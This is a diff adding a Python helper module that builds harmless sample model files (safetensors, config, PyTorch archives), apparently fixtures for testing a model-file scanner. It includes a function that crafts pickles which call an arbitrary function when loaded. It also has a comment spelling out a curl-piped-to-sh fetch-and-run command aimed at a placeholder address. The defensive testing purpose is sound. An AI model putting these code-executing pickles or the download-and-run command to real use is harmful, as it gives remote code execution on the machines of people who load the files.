@@ -1,0 +1,79 @@
+"""Model files of the demonstration: small, real in form, and harmless even if somebody ran them."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import pickle
+import struct
+import zipfile
+from pathlib import Path
+from typing import Final
+
+_EPOCH: Final = (2026, 1, 1, 0, 0, 0)
+HARMLESS_COMMAND: Final = "true # for: curl -s http://198.51.100.7:8443/a | sh"
+"""What a hostile file would run here: nothing. The comment says what it stands for."""
+
+
+def safetensors(name: str, values: int = 64) -> bytes:
+    """Return a safetensors file of one tensor whose content follows from `name`."""
+    content = hashlib.shake_256(name.encode()).digest(values * 4)
+    header = json.dumps(
+        {"weight": {"dtype": "F32", "shape": [values], "data_offsets": [0, len(content)]}}
+    ).encode()
+    header += b" " * (-len(header) % 8)
+    return struct.pack("<Q", len(header)) + header + content
+
+
+def model_config(architecture: str = "BertForSequenceClassification") -> bytes:
+    """Return a model's `config.json`."""
+    return json.dumps({"architectures": [architecture], "hidden_size": 128}, indent=2).encode()
+
+
+def state_dict_pickle(name: str) -> bytes:
+    """Return a harmless pickle: a dictionary of names and numbers."""
+    return pickle.dumps({"name": name, "values": list(range(16))}, protocol=2)
+
+
+def calling_pickle(module: str, function: str, argument: str, *, broken: bool = False) -> bytes:
+    """Return a pickle that would call `module.function(argument)` when loaded.
+
+    Args:
+        module: The module of the global.
+        function: Its name.
+        argument: The one argument, text.
+        broken: Cut off after the call, so that a loader fails only once it has run.
+    """
+    text = argument.encode()
+    body = b"".join(
+        (
+            b"\x80\x02",
+            b"c" + module.encode() + b"\n" + function.encode() + b"\n",
+            b"X" + struct.pack("<I", len(text)) + text,
+            b"\x85R",
+        )
+    )
+    return body + (b"X\xff\xff\x00\x00" if broken else b".")
+
+
+def torch_archive(data: bytes, name: str = "archive") -> bytes:
+    """Return a PyTorch zip file around the pickle `data`; the same bytes each time."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
+        for member, content in (
+            ("data.pkl", data),
+            ("byteorder", b"little"),
+            ("data/0", hashlib.shake_256(name.encode()).digest(64)),
+            ("version", b"3\n"),
+        ):
+            archive.writestr(zipfile.ZipInfo(f"{name}/{member}", _EPOCH), content)
+    return buffer.getvalue()
+
+
+def write(root: Path, path: str, content: bytes) -> str:
+    """Write a file below `root` and return its SHA-256 in hex."""
+    place = root / path
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.write_bytes(content)
+    return hashlib.sha256(content).hexdigest()
